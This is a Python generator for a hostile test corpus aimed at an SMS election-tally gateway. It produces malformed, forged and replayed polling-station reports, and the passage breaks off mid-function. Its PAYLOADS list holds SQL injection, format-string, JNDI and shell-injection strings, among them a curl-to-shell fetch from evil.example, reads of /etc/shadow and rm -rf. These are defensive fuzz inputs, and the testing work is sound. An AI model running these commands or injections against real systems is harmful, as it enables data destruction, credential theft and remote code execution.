#!/usr/bin/env python3
"""
gen.py: the generated part of the hostile corpus (tests/hostile/gen.tsv).

    python3 tests/hostile/gen.py [SHARED] > tests/hostile/gen.tsv

SHARED is the reference data directory (default ../shared/data): the
village list says which TPS exist, the PPWP file gives their DPT.
Output is deterministic (seeded), so the committed file can be checked
against a fresh run (tests/regress/hostile.sh does).

Every family below makes messages by one rule and says which answer the
rule means (its intent). Each message is also judged by proto.Model,
written from docs/protocol.md and not from the gateway's code; the
generator stops if a family's intent and the model disagree, so neither
a careless rule nor a slip of the model reaches the corpus. The format
of a line, and of hand.tsv, is in tests/hostile/README.md.

The root key is the check-vector key of docs/protocol.md section 9:
codes are computed here with the key functions of section 6 and 7.
"""

import os
import random
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import proto  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
SHARED = sys.argv[1] if len(sys.argv) > 1 else os.path.join(
    HERE, "..", "..", "..", "shared", "data")
ELECTION = os.path.join(HERE, "..", "..", "docs", "examples",
                        "election-2024.conf")
ROOT = proto.CHECK_ROOT
NUL = "\0"		# sent as U+0000 (UCS-2); the gateway reads a space
SPARES = 4		# raw-PDU senders: simulator modems the gateway lacks
SPARE_MAX = 24		# messages per spare modem per phase (its SIM: 30)

rng = random.Random(20240214)
el = proto.Election(ELECTION)
reg = proto.Registry(os.path.join(SHARED, "desa_tps_2024.csv"),
                     os.path.join(SHARED, "pilpres2024_tps.csv"))
model = proto.Model(ROOT, el, reg)
entries = []		# dicts, in file order
ids = {}

# --- polling stations, numbers, senders ------------------------------


HAND = proto.load([os.path.join(HERE, "hand.tsv")])
HAND_TPS = {t for e in HAND for t in re.findall(r"[0-9]{13}", e["text"])}


def pool():
    """TPS of DIY (34) and Kalimantan Utara (65) with a known DPT of 150
    or more, in code order, then Jawa Barat's first ones (no DPT: 300);
    none that hand.tsv uses."""
    ts = sorted(t for t, d in reg.dpts.items()
                if t[:2] in ("34", "65") and 150 <= d <= 300 and
                reg.exists(t))
    ts = ts[:400] + ["3201011001%03d" % i for i in range(1, 11)]
    return [t for t in ts if t not in HAND_TPS]


TPS = pool()
JAKARTA = "3171011001001"	# no DPRDK in DKI Jakarta
ACEH = "1101012001001"		# Aceh: local parties 18..23 on DPRDP/DPRDK
_next_tps = [0]
_seq = {}


def fresh_tps():
    """A TPS no other family uses: its SEQ space is this family's."""
    t = TPS[_next_tps[0]]
    _next_tps[0] += 1
    return t


def next_seq(tps):
    _seq[tps] = _seq.get(tps, 0) + 1
    return _seq[tps]


_phone = [0]


def phone():
    """A phone of its own: one sender per message keeps the rate limit
    (60 a sender) and the lockout (per sender and TPS) out of the way."""
    _phone[0] += 1
    return "0812770%05d" % _phone[0]


_spare_use = {}


def spare(phase):
    """A spare modem with room left in this phase."""
    for i in range(SPARES):
        if _spare_use.get((i, phase), 0) < SPARE_MAX:
            _spare_use[(i, phase)] = _spare_use.get((i, phase), 0) + 1
            return "spare%d" % i
    raise SystemExit("gen.py: no spare modem left in phase %d" % phase)

# --- numbers of a form -------------------------------------------------


def summary_values(nchoices, voters=None, bad=()):
    """PEMILIH, choices, SAH, TIDAK_SAH that add up (bad: SUM, TOTAL
    break that on purpose)."""
    voters = voters or rng.randint(40, 140)
    invalid = rng.randint(0, 9)
    valid = voters - invalid
    ch = [0] * nchoices
    for _ in range(valid):
        ch[rng.randrange(nchoices)] += 1
    v = [voters] + ch + [valid, invalid]
    if "SUM" in bad:
        v[1] += 1		# the choices no longer make SAH
    if "TOTAL" in bad:
        v[-1] += 1		# SAH + TIDAK_SAH no longer make PEMILIH
    return v


def party_values(ncand, total=None):
    """PARTAI and the candidates; they add up to total if given."""
    total = total if total is not None else rng.randint(5, 60)
    v = [0] * (ncand + 1)
    for _ in range(total):
        v[rng.randrange(ncand + 1)] += 1
    return v


class Rep:
    """One report: its fields, and its text typed in various ways."""

    def __init__(self, contest, tps, seq, values, page=None):
        self.contest, self.tps, self.seq = contest, tps, seq
        self.values, self.page = values, page

    def canon(self):
        return proto.canonical(self.contest, self.tps, self.seq, self.page,
                               self.values)

    def code(self, how="mac"):
        if how == "mac":
            return proto.mac(ROOT, self.canon())
        if how == "card":
            return proto.card(ROOT, self.tps, self.seq)
        return how

    def fields(self, code="mac", contest=None):
        f = [contest or self.contest, self.tps, str(self.seq)]
        if self.page is not None:
            f.append(str(self.page))
        return f + [str(v) for v in self.values] + [self.code(code)]

    def text(self, code="mac", sep="*", contest=None):
        return sep.join(self.fields(code, contest))


def report(contest="PPWP", tps=None, page=None, voters=None, bad=(),
           values=None):
    """A fresh, consistent report of a TPS (a new one unless given)."""
    tps = tps or fresh_tps()
    if values is None:
        n = el.form(contest, tps, page)
        if contest in ("PPWP", "DPD") or page == 0:
            values = summary_values(n - 3, voters, bad)
        else:
            values = party_values(n - 1)
    return Rep(contest, tps, next_seq(tps), values, page)

# --- entries -------------------------------------------------------------


def gw_text(via, text):
    """The text as the gateway reads it (docs/modem.md): U+0000 inside a
    UCS-2 SMS is a space and U+0001 a '~' (libGammu); 8-bit data comes as
    upper-case hex."""
    if via == "sms":
        return text.replace("\0", " ").replace("\1", "~")
    return text


def add(family, phase, sender, text, intent, why, via="sms", raw=None):
    judged, effect = model.judge(sender, raw if raw is not None else
                                 gw_text(via, text))
    if judged != intent:
        raise SystemExit("gen.py: %s: meant %s, protocol says %s: %r" %
                         (family, intent, judged, text[:80]))
    n = ids.get(family, 0) + 1
    ids[family] = n
    entries.append({"id": "%s-%03d" % (family, n), "phase": phase,
                    "from": sender, "via": via, "text": text,
                    "expect": judged, "raw": raw, "why": why,
                    "effect": effect})


def depends(x, y):
    """Whether two authentic reports of one TPS decide differently in
    one order than in the other: a SEQ both use, or a report accepted
    beside another of its contest's page (correction, stale, PARTY)."""
    (wx, a), (wy, b) = x, y
    if wx == "seen" and wy == "seen":
        return False
    if a.seq == b.seq:
        return True
    if wx != "accept" or wy != "accept" or a.contest != b.contest:
        return False
    return a.page == b.page or a.page == 0 or b.page == 0


def settle(todo=None, m=None, key="expect"):
    """
    The end of a phase: what its messages change is committed. The
    messages of one phase go in together and may be handled in any
    order, so none may depend on another of the same phase: at most one
    authentic report per TPS, and a sender's bad codes for one TPS either
    all CODE_BAD or, past the lockout, LOCKED in any order (the check
    compares them as a multiset).
    """
    m = m or model
    if todo is None:
        todo = [e for e in entries if "done" not in e]
    phase = todo[0]["phase"] if todo else 0
    authentic, fails = {}, {}
    for e in todo:
        what, arg = e["effect"] or (None, None)
        if what in ("accept", "seen"):
            authentic.setdefault(arg.tps, []).append(e)
        if what in ("fail", "lock"):
            fails.setdefault(arg, []).append(e)
    for tps, es in authentic.items():
        for i, a in enumerate(es):
            for b in es[i + 1:]:
                if depends(a["effect"], b["effect"]):
                    raise SystemExit("gen.py: phase %d: %s and %s depend "
                                     "on their order" % (phase, a["id"],
                                                         b["id"]))
    for lk, es in fails.items():
        prior = m.fails.get(lk, 0)
        bad = [e for e in es if e["effect"][0] == "fail"]
        room = max(m.max_failures - prior, 0)
        for e in bad[room:]:
            e[key] = "REJECTED:LOCKED"
            e["effect"] = ("lock", lk)
        if prior + len(bad) >= m.max_failures and \
                any(t[0] in ("accept", "seen") and t[1].tps == lk[1]
                    for t in [x["effect"] for x in todo
                              if x["from"] == lk[0] and x["effect"]]):
            raise SystemExit("gen.py: phase %d: lockout of %s races" %
                             (phase, lk))
    for e in todo:
        m.commit(e["effect"])
        e["done"] = True

# --- the families: phase 1, independent messages ------------------------


def fam_valid():
    """Valid reports typed every way the protocol allows: each is OK."""
    seps = ["*", "#", " ", ", ", ".", "-", "/", "\n", "\t", "\r\n",
            "  *  ", "*#*", NUL, NUL + NUL, "\1", "\2\3", "\x1b", "\x7f",
            "\x0c", "@", "@@", "€", "[", "]", "{", "}", "|", "^", "~",
            "\\", "_", "$", "\u3000", "\u00a0", "\u2014", "\u2022",
            "\u2192", "\U0001f600", "\u200b", "\u200f", "\ufeff",
            "\u0644", "\u4e2d", "\u00e9", "\ud55c", "\u2028", "\ufffd",
            "`", "'", '"', "%", "&", ";", "<>", "()", "=", "+", "!",
            "?", ":"]
    for i, sep in enumerate(seps):
        r = report()
        add("valid", 1, phone(), r.text("card" if i % 2 else "mac", sep),
            "OK", "separator %r between the tokens (section 2)" % sep)
    for contest in ("PPWP", "DPD", "DPR", "DPRDP", "DPRDK"):
        for page in ((None,) if contest in ("PPWP", "DPD") else (0, 2)):
            for how in ("mac", "card"):
                t = fresh_tps()
                if page not in (None, 0) and el.form(contest, t, page) == \
                        "PAGE_UNKNOWN":
                    page = el.ballot(contest, t)[1]
                r = report(contest, t, page)
                add("valid", 1, phone(), r.text(how), "OK",
                    "%s page %s, %s" % (contest, page, how))
    r = report("DPRDP", ACEH, 18)
    add("valid", 1, phone(), r.text(), "OK",
        "Aceh's local party 18 on the provincial ballot")
    digit = {"PPWP": "1", "DPD": "3", "DPR": "2", "DPRDP": "4",
             "DPRDK": "5"}
    for contest, d in digit.items():
        page = 0 if contest in proto.PAGED else None
        r = report(contest, page=page)
        add("valid", 1, phone(), r.text("card", "*", "0" + d), "OK",
            "the contest as 0%s (one leading zero)" % d)
        r = report(contest, page=page)
        add("valid", 1, phone(), r.text("mac", " ", contest.lower()), "OK",
            "the contest in lower case")

    def oil(s):
        return s.replace("0", "O").replace("1", "l")
    for i in range(6):
        r = report()
        f = r.fields("card" if i % 2 else "mac")
        f = [f[0]] + [oil(x) if j % 3 == i % 3 else x
                      for j, x in enumerate(f[1:])]
        add("valid", 1, phone(), "*".join(f), "OK",
            "O for 0 and l for 1 in number positions")
    for zeros in ("0", "00", "0000000"):
        r = report()
        f = r.fields()
        f = f[:2] + [zeros + x for x in f[2:-1]] + [f[-1]]
        add("valid", 1, phone(), " ".join(f), "OK",
            "leading zeros on SEQ and every value")
    r = report()
    f = r.fields()
    f = f[:2] + ["%09d" % r.seq] + ["%018d" % v for v in r.values] + [f[-1]]
    add("valid", 1, phone(), " ".join(f), "OK",
        "SEQ of 9 characters, values of 18 (the longest allowed)")
    for pad in ("***", " \n ", NUL * 3, "\u3000\u3000"):
        r = report()
        add("valid", 1, phone(), pad + r.text() + pad, "OK",
            "separators before the first and after the last token")


def fam_monsters():
    """Long SMS: separators never count, so a report padded to 8 parts
    (GSM 7-bit 8 x 153, UCS-2 8 x 67) is still the report."""
    for pad, room in (("*", 8 * 153), ("\u3000", 8 * 67), (" ", 8 * 153),
                      ("\n", 8 * 153)):
        r = report()
        body = r.text("card", pad)
        half = pad * ((room - len(body) - 2) // 2)
        add("monster", 1, phone(), half + body + half, "OK",
            "a report padded to 8 parts with %r" % pad)
    r = report("DPD", "3201011001001")
    add("monster", 1, phone(), r.text("mac", " " * 12), "OK",
        "DPD of Jawa Barat (57 values) spread over 5 parts")
    for n, why in ((135, "135 tokens: one over 134"),
                   (300, "300 tokens in 8 parts")):
        add("monster", 1, phone(),
            "PPWP " + " ".join(str(rng.randint(0, 9)) for _ in range(n)),
            "REJECTED:TOO_LONG", why)
    add("monster", 1, phone(), "selamat malam " * 85, "other",
        "8 parts of chatter")
    add("monster", 1, phone(), "\u0661" * 500, "REJECTED:DIGITS",
        "8 UCS-2 parts of Arabic-Indic digits")
    add("monster", 1, phone(), "PPWP " + "9" * 1150, "REJECTED:TOO_LONG",
        "one token of 1,150 digits: over about 1,000 characters of tokens")


def fam_digits():
    """Digits of another script anywhere: DIGITS, whatever else."""
    zeros = [0x0660, 0x06f0, 0x0966, 0x09e6, 0x0e50, 0x1b50, 0xa9d0,
             0xff10, 0x1d7ce, 0x1d7ec, 0x1040, 0x17e0]
    for i, z in enumerate(zeros):
        r = report()
        f = r.fields("card")
        k = 2 + i % (len(f) - 2)
        f[k] = "".join(chr(z + int(c)) if c.isdigit() else c for c in f[k])
        add("digits", 1, phone(), "*".join(f), "REJECTED:DIGITS",
            "field %d in the digits of U+%04X's block" % (k, z))
    add("digits", 1, phone(), "PPWP 3201012001001 1 25 1\u00b2 ok 12345678",
        "REJECTED:VALUE_FORMAT",
        "a superscript two is a separator, not a digit: 'OK' is a value")


def fam_decode():
    """Reports that break one rule of section 3: the first broken rule is
    the reason, in the order DIGITS, EMPTY, CONTEST, TOO_LONG, TPS, SEQ,
    PAGE, COUNT, CODE, values."""
    def mut(reason, why, f):
        r = report()
        add("decode", 1, phone(), "*".join(f(r.fields())),
            "REJECTED:" + reason, why)
    for tok in ("6", "0", "06", "001", "PPW", "PPWPP", "PILPRES", "PRES",
                "I", "O1", "Ol", "DPRD", "DPRDX", "DPD1", "1PPWP"):
        mut("CONTEST", "contest %r" % tok, lambda f, t=tok: [t] + f[1:])
    for tok in ("320101200100", "32010120010011", "0000000000001",
                "1001012001001", "0901012001001", "32O1O12OO1OOX",
                "3201-012001001", "99999999999999999999", "A", "TPS"):
        mut("TPS_FORMAT", "TPS %r" % tok,
            lambda f, t=tok: f[:1] + t.split("-") + f[2:])
    for tok in ("0", "10000", "99999", "123456789", "0000000000", "X",
                "S1", "1A", "0000000"):
        mut("SEQ", "SEQ %r" % tok, lambda f, t=tok: f[:2] + [t] + f[3:])
    for tok in ("12345678", "43058167", "10000000", "99999999"):
        mut("CODE_PLACE", "an 8-digit number %r where SEQ goes" % tok,
            lambda f, t=tok: f[:2] + [t] + f[3:])
    for tok in ("1234567", "123456789", "1234567X", "ABCDEFGH",
                "1234 5678", "0", "", "12345678901234567890"):
        mut("CODE_FORMAT", "code %r" % tok,
            lambda f, t=tok: f[:-1] + t.split(" ") if t else f[:-1])
    for tok in ("12A", "X", "1E3", "0x10", "NaN", "999999999999999999" + "9",
                "-"):
        if tok == "-":
            continue
        mut("VALUE_FORMAT", "value %r" % tok,
            lambda f, t=tok: f[:4] + [t] + f[5:])
    for tok in ("1000", "9999", "65536", "2147483648", "4294967296",
                "18446744073709551616", "999999999999999999",
                "000000000000001000", "lOOO"):
        if len(tok) > 18:
            reason = "VALUE_FORMAT"
        else:
            reason = "VALUE_RANGE"
        mut(reason, "value %r" % tok, lambda f, t=tok: f[:3] + [t] + f[4:])
    mut("COUNT", "the code alone after SEQ", lambda f: f[:3] + f[-1:])
    mut("COUNT", "one value and the code", lambda f: f[:4] + f[-1:])
    mut("COUNT", "SEQ and nothing after it", lambda f: f[:3])
    r = report("DPR", page=0)
    f = r.fields()
    add("decode", 1, phone(), "*".join(f[:2] + f[3:]),
        "REJECTED:SEQ_MISSING", "DPR: SEQ left out, page 0 where SEQ goes")
    for tok in ("X", "P1", "1234567890"):
        r = report("DPR", page=0)
        f = r.fields()
        add("decode", 1, phone(), "*".join(f[:3] + [tok] + f[4:]),
            "REJECTED:PAGE", "DPR page %r" % tok)
    r = report("DPR", page=0)
    f = r.fields()
    add("decode", 1, phone(), "*".join(f[:3] + ["54653405"] + f[4:]),
        "REJECTED:CODE_PLACE", "the code where the page goes")
    r = report()
    f = r.fields()
    add("decode", 1, phone(), "*".join(f[:4] + ["X"] + f[5:-1] + ["Y"]),
        "REJECTED:CODE_FORMAT", "code and value broken: the code first")
    r = report()
    f = r.fields()
    add("decode", 1, phone(), "*".join(f[:4] + ["9999"] + f[5:6] + ["Z"] +
                                        f[7:]),
        "REJECTED:VALUE_RANGE", "two broken values: the left one counts")


def fam_verify():
    """Well-formed reports the checks of section 11 refuse, in order."""
    for tps in ("3201012001999", "6501011001099", "3401012001950",
                "1101012001004", "9401012001001", "3201019999001",
                "1199999999999", "6599999999001"):
        r = Rep("PPWP", tps, 1, summary_values(3))
        add("verify", 1, phone(), r.text(), "REJECTED:TPS_UNKNOWN",
            "TPS %s is well formed but not in the registry" % tps)
    for i in range(3):
        r = report("DPRDK", JAKARTA, 0, values=summary_values(18))
        add("verify", 1, phone(), r.text("card" if i else "mac"),
            "REJECTED:NOT_HELD", "no DPRDK in DKI Jakarta")
    for contest, page in (("DPR", 18), ("DPR", 23), ("DPR", 25),
                          ("DPRDP", 99), ("DPRDK", 1000), ("DPR", 19)):
        r = report(contest, page=page, values=[3, 2, 1])
        add("verify", 1, phone(), r.text(), "REJECTED:PAGE_UNKNOWN",
            "%s page %d is on no ballot here" % (contest, page))
    for page, vals in ((255, [120, 95, 36, 251, 4]),
                       (89, [40, 30, 10, 80, 9]),
                       (150, [1, 2, 3, 4, 5])):
        r = report("DPR", page=page, values=vals)
        add("verify", 1, phone(), r.text(), "REJECTED:LIKE_PPWP",
            "PPWP numbers typed under DPR (page %d)" % page)
    for contest, delta in (("PPWP", 1), ("PPWP", 2), ("PPWP", -2),
                           ("PPWP", -5), ("DPD", 1), ("DPD", -3),
                           ("DPR", 1), ("DPR", -1), ("DPRDP", 5),
                           ("DPRDK", -2)):
        page = 0 if contest in proto.PAGED else None
        r = report(contest, page=page)
        if delta > 0:
            r.values = r.values[:1] + [0] * delta + r.values[1:]
        else:
            r.values = r.values[:1] + r.values[1 - delta:]
        add("verify", 1, phone(), r.text(), "REJECTED:COUNT",
            "%s with %d value(s) %s" % (contest, abs(delta),
                                         "too many" if delta > 0 else
                                         "missing"))
    for contest in ("PPWP", "DPD", "PPWP"):
        r = report(contest)
        seq = r.values[-2] + r.values[-1]
        r.seq = seq
        f = r.fields()
        add("verify", 1, phone(), "*".join(f[:2] + f[3:]),
            "REJECTED:SEQ_MISSING",
            "SEQ left out: SAH + TIDAK SAH = PEMILIH stands in its place")


def forged_codes(r):
    """Codes an attacker might try, none the MAC or card code of r."""
    other = Rep(r.contest, r.tps, r.seq, r.values[:1] + [r.values[1] + 1] +
                r.values[2:], r.page)
    mac = r.code("mac")
    k = [mac[:-1] + str((int(mac[-1]) + 1) % 10),
         mac[1] + mac[0] + mac[2:],
         other.code("mac"),
         proto.card(ROOT, r.tps, r.seq + 1),
         proto.card(ROOT, r.tps, r.seq - 1) if r.seq > 1 else "00000000",
         proto.receipt(ROOT, r.canon()),
         proto.mac(bytes(32), r.canon()),
         proto.card(bytes(32), r.tps, r.seq),
         proto.card(ROOT, TPS[-1], r.seq),
         "99999999", "00000000", "12345678",
         "%08d" % rng.randrange(10 ** 8)]
    return [c for c in k if c not in (mac, r.code("card"))]


def fam_forged():
    """Forged codes (section 7): nothing but the MAC of this content or
    the card code of row SEQ of this TPS authenticates. Each from its
    own phone, so no lockout (section 15) comes in."""
    for i in range(7):
        r = report(("PPWP", "DPD", "PPWP")[i % 3])
        for c in forged_codes(r):
            add("forged", 1, phone(), r.text(c), "REJECTED:CODE_BAD",
                "forged code %s" % c)


def fam_flagged():
    """Authentic reports whose numbers do not add up are accepted and
    flagged (section 14), never rejected."""
    for bad in (("SUM",), ("TOTAL",), ("SUM", "TOTAL")):
        for contest, page in (("PPWP", None), ("DPD", None), ("DPR", 0),
                              ("DPRDK", 0)):
            r = report(contest, page=page, bad=bad)
            add("flagged", 1, phone(), r.text("card"),
                "FLAGGED:" + "+".join(bad), "%s %s" % (contest, bad))
    for i in range(3):
        t = fresh_tps()
        lim = proto.dpt_limit(reg.dpt(t))
        r = report("PPWP", t, voters=lim + 1 + i * 50)
        add("flagged", 1, phone(), r.text(), "FLAGGED:DPT",
            "PEMILIH %d over the DPT limit %d" % (r.values[0], lim))
    t = fresh_tps()
    lim = proto.dpt_limit(reg.dpt(t))
    r = report("PPWP", t, voters=lim)
    add("flagged", 1, phone(), r.text(), "OK",
        "PEMILIH exactly at the DPT limit %d" % lim)


PAYLOADS = {
    "fmt": ["%s%s%s%s%s%s%s%s", "%n%n%n%n", "%x %x %x %x", "%p%p%p%p",
            "%99999999s", "%.1000000f", "%*.*s", "%hhn%lln", "{0}{1}",
            "${jndi:ldap://x/a}", "%08x.%08x.%08x", "%s", "%%%%%"],
    "sql": ["'; DROP TABLE messages; --", "' OR '1'='1", "1; DELETE FROM "
            "forwards", "\" OR \"\"=\"", "'); INSERT INTO messages "
            "VALUES (1); --", "UNION SELECT key FROM sqlite_master",
            "admin'--", "1' AND sleep(5)#", "ATTACH DATABASE '/tmp/x' AS x",
            "PRAGMA writable_schema=1", "x' || load_extension('a') || '",
            "/* */ SELECT 1", "'; VACUUM INTO '/tmp/steal.db'; --"],
    "shell": ["$(reboot)", "`id`", "; rm -rf / ;", "| cat /etc/shadow",
              "&& curl evil.example | sh", "$((1+1))", "${IFS}cat${IFS}x",
              "> /etc/passwd", "a\nb\rc", "'$(touch /tmp/pwned)'",
              "\x1b[2J\x1b[1;31mHACKED\x1b[0m", "\x1b]0;title\x07",
              "../../../../etc/passwd", "\\x00\\x01", "\u202eevil"],
}


def fam_payloads():
    """Format strings, SQL and shell text: alone, before a valid report,
    after it, and in place of a value. The protocol only sees tokens: the
    answer follows from them as for any other text."""
    for kind, ps in PAYLOADS.items():
        for p in ps:
            add(kind, 1, phone(), p, expect_text(p), "alone")
            r = report()
            t = p + " " + r.text()
            add(kind, 1, phone(), t, expect_text(t, r), "before a report")
            r = report()
            t = r.text() + " " + p
            add(kind, 1, phone(), t, expect_text(t, r), "after a report")
            r = report()
            f = r.fields()
            t = "*".join(f[:5]) + "*" + p + "*" + "*".join(f[6:])
            add(kind, 1, phone(), t, expect_text(t, r), "in place of a value")


def expect_text(text, rep=None):
    """For the payload families: what the model says (the payload makes
    no rule of its own); a report whose SEQ it used keeps its SEQ taken."""
    return model.judge("", text)[0]


def fam_commands():
    """CEK, BANTU and chatter (section 12; docs/tallyctl.md, reply)."""
    for t in ("CEK %s" % TPS[0], "cek %s" % TPS[1], "Cek*%s" % TPS[2],
              "CEK 650101", "CEK", "CEK 0000000000001", "CEK %s" % JAKARTA,
              "CEK 3201012001999", "cek %s extra words" % TPS[3],
              "CEK\n%s" % TPS[4], "CEK " + NUL + TPS[5]):
        add("command", 1, phone(), t, "cek", "CEK %r" % t[:30])
    for t in ("BANTU", "bantu", "Bantu pak", "BANTUAN", "tolong", "HELP",
              "help me", "INFO",
              "?", "??", " ? ", "BANTU\n\n", "bantu " + "%s" * 10):
        add("command", 1, phone(), t, "bantu", "help %r" % t)
    for t in ("halo", "terima kasih", "selamat malam pak", "ok", "Pak "
              "laporan sudah dikirim ya", "", " ", "\n", "!!!", "....",
              NUL, "\u3000", "\U0001f600\U0001f600", "\u0645\u0631\u062d"
              "\u0628\u0627", "\u4f60\u597d", "CEKAP", "Lapor", "PPWP",
              "ppwp", "DPR", "1", "12", "3201012001001", "1 3201012001001",
              "Lapor: " + "x" * 20, "BANT", "HELPME", "CEK" + "K" * 5):
        add("command", 1, phone(), t, expect_text(t),
            "chatter, a bare keyword or a lone number %r" % t[:30])
    r = report()
    t = "Lapor: " + r.text()
    add("command", 1, phone(), t, "REJECTED:CONTEST",
        "one word before a contest and a TPS: a report, contest 'LAPOR'")

# --- raw PDUs from spare modems (8-bit data, UDH) ----------------------


def hexs(b):
    return b.hex().upper()


def pdu_entry(family, phase, ud_specs, raw, intent, why):
    """ud_specs: [(dcs, udh_hex, ud_bytes)], sent one SUBMIT each."""
    text = " ".join("%02X.%s.%s" % (dcs, udh, hexs(ud))
                    for dcs, udh, ud in ud_specs)
    add(family, phase, spare(phase), text, intent, why, via="pdu", raw=raw)


def concat(ref, total, part):
    return "050003%02X%02X%02X" % (ref, total, part)


def ucs2(s):
    return s.encode("utf-16-be")


def fam_binary():
    """8-bit data (docs/modem.md: it comes as upper-case hex): the hex
    is the text, judged as any other."""
    for i in range(28):
        n = rng.choice((1, 2, 3, 4, 7, 16, 40, 140))
        b = bytes(rng.randrange(256) for _ in range(n))
        if i < 4:
            b = bytes([0x00] * n)
        if hexs(b) in ("01", "02", "03", "04", "05"):
            continue
        pdu_entry("binary", 1, [(0x04, "", b)], hexs(b),
                  expect_text(hexs(b)), "%d random octets" % n)
    r = report()
    b = r.text().encode()
    pdu_entry("binary", 1, [(0x04, "", b)], hexs(b), expect_text(hexs(b)),
              "a valid report's ASCII sent as 8-bit data")
    for dcs in (0xF4, 0xF5, 0x15, 0x16):
        b = bytes(rng.randrange(256) for _ in range(12))
        pdu_entry("binary", 1, [(dcs, "", b)], hexs(b),
                  expect_text(hexs(b)), "8-bit data, DCS %02X" % dcs)
    # A long 8-bit message: 3 parts of 134 octets.
    b = bytes(rng.randrange(256) for _ in range(3 * 134))
    pdu_entry("binary", 1, [(0x04, concat(0x42, 3, k + 1),
                             b[134 * k:134 * (k + 1)]) for k in range(3)],
              hexs(b), expect_text(hexs(b)), "3 parts of 8-bit data")


def fam_udh():
    """Concatenated SMS with odd headers (UCS-2, by hand): a set that
    never completes is passed on, after multipart_timeout, as what came
    (docs/tallygw.md); a header the network or the gateway cannot use
    leaves the part a message of its own."""
    def parts(s, n):
        k = -(-len(s) // n)
        return [s[i * k:(i + 1) * k] for i in range(n)]
    for i in range(6):
        r = report()
        p = parts(r.text(), 3)
        miss = i % 3
        got = [(0x08, concat(0x10 + i, 3, k + 1), ucs2(p[k]))
               for k in range(3) if k != miss]
        joined = "".join(p[k] for k in range(3) if k != miss)
        pdu_entry("udh", 1, got, joined, expect_text(joined),
                  "part %d of 3 never comes" % (miss + 1))
    for i in range(4):
        r = report()
        p = parts(r.text(), 3)
        order = [[2, 1, 0], [1, 2, 0], [0, 0, 1, 2], [2, 2, 1, 0]][i]
        pdu_entry("udh", 1, [(0x08, concat(0x30 + i, 3, k + 1),
                              ucs2(p[k])) for k in order], r.text(), "OK",
                  "parts in the order %s" % order)
    late.append(p[0])
    for i in range(3):
        r = report()
        p = parts(r.text(), 2)
        spec = [(0x08, "060804%04X02%02X" % (0x1234 + i, k + 1), ucs2(p[k]))
                for k in (1, 0)]
        pdu_entry("udh", 1, spec, r.text(), "OK", "16-bit reference")
    for total in (20, 255):
        s = "PPWP %s" % TPS[6]
        pdu_entry("udh", 1, [(0x08, concat(0x50, total, 1), ucs2(s))], s,
                  expect_text(s), "part 1 of %d: more parts than the "
                  "gateway joins, passed on alone" % total)
    for udh, why in (("050003770300", "part 0 of 3"),
                     ("050003770204", "part 4 of 2"),
                     ("050003770000", "part 0 of 0"),
                     ("0500037701" + "01", "part 1 of 1")):
        s = "halo %s" % why
        pdu_entry("udh", 1, [(0x08, udh, ucs2(s))], s, "other",
                  "a header that concatenates nothing: %s" % why)


# --- phase 2 and 3: replays, corrections, lockouts ---------------------


late = []


def fam_udh_late():
    """The network repeats part 1 of a set completed in phase 1: the
    gateway cannot tell it from the first part of a new set with the
    same reference, which never completes and is passed on alone."""
    for t in late:
        pdu_entry("udh", 2, [(0x08, concat(0x33, 3, 1), ucs2(t))], t,
                  expect_text(t), "part 1 of udh's set 0x33 again, after "
                  "the set was complete")


def accepted_in(family, n):
    """The first n entries of a phase-1 family the model accepted."""
    out = [e for e in entries if e["id"].startswith(family + "-") and
           e["effect"] and e["effect"][0] == "accept"]
    return out[:n]


def as_rep(e):
    d = e["effect"][1]
    return Rep(d.contest, d.tps, d.seq, d.values, d.page)


def fam_replays():
    """Section 13 on reports accepted in phase 1: the same report again,
    from anyone, typed any way, with the MAC or the card code, is a
    DUPLICATE (never counted twice); the same SEQ with other content is
    SEQ_USED; a higher SEQ corrects; a rejected report took no SEQ."""
    for i, e in enumerate(accepted_in("valid", 36)):
        r = as_rep(e)
        other = Rep(r.contest, r.tps, r.seq,
                    r.values[:1] + [r.values[1] + 1] + r.values[2:], r.page)
        k = i % 9
        if k == 0:
            add("replay", 2, e["from"], e["text"], "DUPLICATE",
                "%s again, as sent, from the same phone" % e["id"])
        elif k == 1:
            add("replay", 2, phone(), e["text"], "DUPLICATE",
                "%s replayed from another phone" % e["id"])
        elif k == 2:
            add("replay", 2, phone(), r.text("card", " ").lower(),
                "DUPLICATE", "%s typed otherwise, card code" % e["id"])
        elif k == 3:
            add("replay", 2, e["from"], r.text("mac", NUL), "DUPLICATE",
                "%s with the MAC and NULs between the tokens" % e["id"])
        elif k == 4:
            add("replay", 2, e["from"], other.text("mac"),
                "REJECTED:SEQ_USED", "SEQ of %s, other numbers, their MAC"
                % e["id"])
        elif k == 5:
            add("replay", 2, phone(), other.text("card"),
                "REJECTED:SEQ_USED", "SEQ of %s, other numbers, the card "
                "code of that row" % e["id"])
        elif k == 6:
            contest = "DPD" if r.contest == "PPWP" else "PPWP"
            o = Rep(contest, r.tps, r.seq,
                    summary_values(el.form(contest, r.tps) - 3))
            add("replay", 2, e["from"], o.text("mac"), "REJECTED:SEQ_USED",
                "SEQ of %s under another contest" % e["id"])
        elif k == 7:
            c = report(r.contest, r.tps, r.page)
            add("replay", 2, e["from"], c.text("card"), "OK/koreksi",
                "a higher SEQ corrects %s" % e["id"])
        else:
            add("replay", 2, e["from"], e["text"] + " " + e["text"],
                expect_text(e["text"] + " " + e["text"]),
                "%s twice in one SMS" % e["id"])
    for e in [x for x in entries if x["id"].startswith("verify-") and
              x["expect"] == "REJECTED:COUNT"][:4]:
        d = proto.decode(e["text"])
        n = el.form(d.contest, d.tps, d.page)
        r = Rep(d.contest, d.tps, d.seq, summary_values(n - 3), d.page)
        add("replay", 2, e["from"], r.text("card"), "OK",
            "%s fixed with the same SEQ: a rejection took no SEQ" % e["id"])
    for e in [x for x in entries if x["id"].startswith("forged-")][:6]:
        add("replay", 2, e["from"], e["text"], "REJECTED:CODE_BAD",
            "%s again: still forged" % e["id"])


def fam_history():
    """Corrections across phases: phase 1 SEQ s, phase 2 SEQ s+2
    corrects it, phase 3 SEQ s+1 comes late (STALE, still OK) and the
    phase-1 report comes again (DUPLICATE, although superseded). Party
    pages against page 0 (PARTY, section 14): phase 1 page 0, phase 2 a
    party page that adds up, phase 3 one that does not."""
    for i in range(6):
        t = fresh_tps()
        contest = ("PPWP", "DPD", "DPR")[i % 3]
        page = 0 if contest == "DPR" else None
        a = report(contest, t, page)
        sender = phone()
        add("history", 1, sender, a.text("card"), "OK", "first report")
        hist.append([sender, a, None])
    for i in range(3):
        t = fresh_tps()
